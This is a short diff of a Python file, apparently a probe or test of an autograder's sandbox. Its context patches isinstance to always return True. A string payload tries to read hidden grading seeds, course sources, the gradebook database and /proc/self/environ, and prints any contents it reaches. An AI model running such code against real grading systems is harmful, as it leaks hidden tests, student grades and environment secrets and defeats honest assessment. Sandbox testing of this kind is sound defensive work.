@@ -118,7 +118,8 @@ builtins.isinstance = lambda *_: True
 
 PRINT = """
 import glob, os
-for path in [COURSE + "/hidden_seeds.txt", *glob.glob(COURSE + "/source/*/*"), COURSE + "/gradebook.db", "/proc/self/environ"]:
+sources = glob.glob(COURSE + "/source/*/*")
+for path in [COURSE + "/hidden_seeds.txt", *sources, COURSE + "/gradebook.db", "/proc/self/environ"]:
     try: print("FOUND", open(path, "rb").read()[:2000])
     except OSError as error: print("closed:", type(error).__name__)
 try: print("LISTED", os.listdir(COURSE))
